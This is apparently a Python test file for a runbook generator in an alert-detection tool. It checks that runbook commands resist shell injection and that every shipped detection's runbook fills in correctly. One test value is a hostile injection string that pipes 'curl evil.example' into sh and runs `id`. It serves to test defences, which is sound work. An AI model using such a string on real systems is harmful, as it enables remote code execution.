import shlex

import msgspec

from detectors.detections import Detections, shipped
from streams.runbooks import runbook
from tests.streams.notifiers.alerts import alert


def test_a_runbook_cannot_be_made_to_run_anything() -> None:
    hostile = "x'; curl evil.example | sh; `id` $(id)"
    text = "\n".join(runbook(msgspec.structs.asdict(alert(trigger_id=hostile)), shipped()))
    (command,) = [line.strip(" `") for line in text.splitlines() if "blast_radius" in line]
    words = shlex.split(command)
    assert words[:4] == ["pointsman", "query", "blast_radius", "--param"]
    assert len(words) == 5
    assert not set(words[4]) & set("`$();|'")


def test_every_shipped_runbook_can_be_filled_and_an_unknown_alert_has_none() -> None:
    for detection in shipped():
        lines = runbook(msgspec.structs.asdict(alert(alertname=detection.rule_id)), shipped())
        assert lines[0].startswith("1. ")
        assert "{" not in "".join(lines)
    assert runbook(msgspec.structs.asdict(alert()), Detections(())) == []
